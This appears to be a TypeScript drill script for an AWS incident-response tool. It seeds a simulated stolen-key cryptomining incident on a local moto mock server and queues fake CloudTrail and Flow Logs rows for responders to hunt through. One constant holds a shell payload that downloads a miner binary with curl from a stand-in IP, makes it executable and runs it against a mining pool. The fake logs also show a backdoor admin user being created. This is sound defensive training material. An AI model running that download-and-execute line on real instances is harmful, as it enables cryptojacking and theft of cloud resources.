/**
 * The responder's drill on a local moto server (docs/runbook.md, "Drill"): seeds a small
 * stolen-key cryptomining incident, then queues the rows Athena would return, because moto does
 * not run SQL. Talks only to the endpoint given (default http://127.0.0.1:5000).
 *
 *   npx tsx scripts/drill.ts seed        [endpoint]   the incident: key, miners, key pairs, workgroup
 *   npx tsx scripts/drill.ts queue-scope [endpoint]   organization-trail rows for scope --source athena
 *   npx tsx scripts/drill.ts queue-hunt  [endpoint]   Flow Logs rows for hunt --pool-ip
 */
import { AthenaClient, CreateWorkGroupCommand, GetWorkGroupCommand } from '@aws-sdk/client-athena';
import { CreateKeyPairCommand, DescribeImagesCommand, DescribeInstancesCommand, DescribeKeyPairsCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { CreateAccessKeyCommand, CreateUserCommand, GetUserCommand, IAMClient, ListAccessKeysCommand } from '@aws-sdk/client-iam';
import { ATHENA } from '../shared/names';

const [command, endpoint = 'http://127.0.0.1:5000'] = process.argv.slice(2);
const credentials = { accessKeyId: 'testing', secretAccessKey: 'testing' };
const REGIONS = ['us-east-1', 'eu-west-1'] as const;
const ACCOUNT = '123456789012';
const OTHER_ACCOUNT = '666666666666';
const USER_DATA = '#!/bin/bash\ncurl -s http://203.0.113.7/xmrig -o /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC\n';

if (!/^http:\/\/(127\.0\.0\.1|localhost)(:\d+)?$/.test(endpoint)) {
  process.stderr.write(`drill: ${endpoint} is not a local endpoint. Fix: pass the moto server's address, e.g. http://127.0.0.1:5000.\n`);
  process.exit(2);
}

const ec2 = (region: string) => new EC2Client({ region, endpoint, credentials });
const iam = new IAMClient({ region: 'us-east-1', endpoint, credentials });

async function userKey(userName: string): Promise<string> {
  try {
    await iam.send(new GetUserCommand({ UserName: userName }));
  } catch {
    await iam.send(new CreateUserCommand({ UserName: userName }));
  }
  const keys = (await iam.send(new ListAccessKeysCommand({ UserName: userName }))).AccessKeyMetadata ?? [];
  return keys[0]?.AccessKeyId ?? (await iam.send(new CreateAccessKeyCommand({ UserName: userName }))).AccessKey!.AccessKeyId!;
}

async function miners(region: string): Promise<string[]> {
  const out = await ec2(region).send(new DescribeInstancesCommand({ Filters: [{ Name: 'key-name', Values: ['miner-key'] }, { Name: 'instance-state-name', Values: ['pending', 'running', 'stopped'] }] }));
  return (out.Reservations ?? []).flatMap((r) => r.Instances ?? []).map((i) => i.InstanceId!);
}

/** Idempotent: a second run finds what the first created. */
async function seed(): Promise<void> {
  const key = await userKey('svc-build');
  for (const region of REGIONS) {
    const client = ec2(region);
    const pairs = (await client.send(new DescribeKeyPairsCommand({}))).KeyPairs ?? [];
    if (!pairs.some((p) => p.KeyName === 'miner-key')) await client.send(new CreateKeyPairCommand({ KeyName: 'miner-key' }));
    if ((await miners(region)).length === 0) {
      const image = ((await client.send(new DescribeImagesCommand({ Owners: ['amazon'] }))).Images ?? [])[0]!.ImageId!;
      await client.send(new RunInstancesCommand({ ImageId: image, InstanceType: 'c5.4xlarge', MinCount: 1, MaxCount: 1, KeyName: 'miner-key', UserData: Buffer.from(USER_DATA).toString('base64') }));
    }
  }
  const athena = new AthenaClient({ region: 'us-east-1', endpoint, credentials });
  if (!(await athena.send(new GetWorkGroupCommand({ WorkGroup: ATHENA.workgroup }))).WorkGroup) {
    await athena.send(new CreateWorkGroupCommand({ Name: ATHENA.workgroup, Description: 'drill: the investigation workgroup the security-athena stack creates' }));
  }
  const instances = (await Promise.all(REGIONS.map(async (r) => (await miners(r)).map((id) => `${id} (${r})`)))).flat();
  process.stdout.write(`stolen access key: ${key}\nminers: ${instances.join(', ')}\n`);
}

type Row = ReadonlyArray<string | undefined>;

/** Queue rows for the next Athena queries, as Athena returns them (header row first). */
async function queue(results: ReadonlyArray<{ columns: readonly string[]; rows: readonly Row[] }>): Promise<void> {
  const body = {
    account_id: ACCOUNT,
    region: 'us-east-1',
    results: results.map((r) => ({
      column_info: r.columns.map((c) => ({ Name: c, Label: c, Type: 'varchar' })),
      rows: [r.columns, ...r.rows].map((row) => ({ Data: row.map((v) => (v === undefined ? {} : { VarCharValue: v })) })),
    })),
  };
  const res = await fetch(`${endpoint}/moto-api/static/athena/query-results`, { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
  if (res.status !== 201) throw new Error(`moto refused the queued results (${res.status}); is ${endpoint} a moto server?`);
}

const TRAIL_COLUMNS = ['eventid', 'eventtime', 'eventsource', 'eventname', 'awsregion', 'recipientaccountid', 'username', 'access_key_id', 'principal_arn', 'sourceipaddress', 'useragent', 'errorcode', 'requestparameters', 'responseelements'];
const hoursAgo = (h: number) => new Date(Date.now() - h * 3_600_000).toISOString().replace(/\.\d{3}Z$/, 'Z');

async function queueScope(): Promise<void> {
  const key = await userKey('svc-build');
  const backdoorKey = await userKey('backdoor-admin');
  const arn = `arn:aws:iam::${ACCOUNT}:user/svc-build`;
  const agent = 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64.kali';
  const event = (id: string, h: number, source: string, name: string, region: string, req: unknown, resp: unknown, account = ACCOUNT): Row =>
    [id, hoursAgo(h), source, name, region, account, 'svc-build', key, arn, '203.0.113.7', agent, undefined, JSON.stringify(req), resp === undefined ? undefined : JSON.stringify(resp)];
  const rows: Row[] = [];
  for (const region of REGIONS) {
    rows.push(event(`drill-kp-${region}`, 50, 'ec2.amazonaws.com', 'CreateKeyPair', region, { keyName: 'miner-key' }, { keyName: 'miner-key' }));
    for (const id of await miners(region)) {
      rows.push(event(`drill-run-${id}`, 49, 'ec2.amazonaws.com', 'RunInstances', region, { instancesSet: { items: [{ keyName: 'miner-key', minCount: 1 }] }, instanceType: 'c5.4xlarge' }, { instancesSet: { items: [{ instanceId: id }] } }));
    }
  }
  rows.push(event('drill-user', 48, 'iam.amazonaws.com', 'CreateUser', 'us-east-1', { userName: 'backdoor-admin' }, { user: { userName: 'backdoor-admin' } }));
  rows.push(event('drill-attach', 48, 'iam.amazonaws.com', 'AttachUserPolicy', 'us-east-1', { userName: 'backdoor-admin', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, undefined));
  // The same key, used in another member account of the organization: what LookupEvents cannot see.
  rows.push(event('drill-other-account', 47, 'ec2.amazonaws.com', 'RunInstances', 'eu-west-1', { instancesSet: { items: [{ keyName: 'miner-key' }] } }, { instancesSet: { items: [{ instanceId: 'i-0f00dfeedbeef0001' }] } }, OTHER_ACCOUNT));
  const backdoor: Row[] = [
    ['drill-backdoor-1', hoursAgo(46), 'sts.amazonaws.com', 'GetCallerIdentity', 'us-east-1', ACCOUNT, 'backdoor-admin', backdoorKey, `arn:aws:iam::${ACCOUNT}:user/backdoor-admin`, '203.0.113.7', agent, undefined, '{}', undefined],
  ];
  await queue([{ columns: TRAIL_COLUMNS, rows }, { columns: TRAIL_COLUMNS, rows: backdoor }]);
  process.stdout.write(`queued ${rows.length} trail events for the key and ${backdoor.length} for the backdoor user it created\n`);
}

async function queueHunt(): Promise<void> {
  const columns = ['flow_start', 'account', 'region', 'vpc_id', 'instance_id', 'interface_id', 'srcaddr', 'srcport', 'dstaddr', 'dstport', 'protocol', 'packets', 'bytes', 'action', 'flow_direction'];
  const [miner] = await miners('us-east-1');
  const ts = (h: number) => hoursAgo(h).replace('T', ' ').replace('Z', '.000');
  await queue([
    {
      columns,
      rows: [
        [ts(48), ACCOUNT, 'us-east-1', 'vpc-0a1b2c3d4e5f60001', miner, 'eni-0a1b2c3d4e5f60001', '172.31.10.20', '43512', '198.51.100.23', '3333', '6', '1200', '640000', 'ACCEPT', 'egress'],
        [ts(30), OTHER_ACCOUNT, 'eu-west-1', 'vpc-0a1b2c3d4e5f60003', 'i-0f00dfeedbeef0001', 'eni-0f00dfeedbeef0001', '10.1.4.9', '40022', '198.51.100.23', '3333', '6', '800', '410000', 'ACCEPT', 'egress'],
      ],
    },
  ]);
  process.stdout.write('queued 2 Flow Logs rows for the pool IP 198.51.100.23 (one in another account)\n');
}

const COMMANDS: Record<string, () => Promise<void>> = { seed, 'queue-scope': queueScope, 'queue-hunt': queueHunt };
const run = COMMANDS[command ?? ''];
if (!run) {
  process.stderr.write(`drill: unknown command "${command ?? ''}". Fix: npx tsx scripts/drill.ts seed|queue-scope|queue-hunt [endpoint]\n`);
  process.exit(2);
}
run().catch((error: unknown) => {
  process.stderr.write(`drill: ${(error as Error).message}. Fix: start moto first (docs/runbook.md, "Drill").\n`);
  process.exit(1);
});
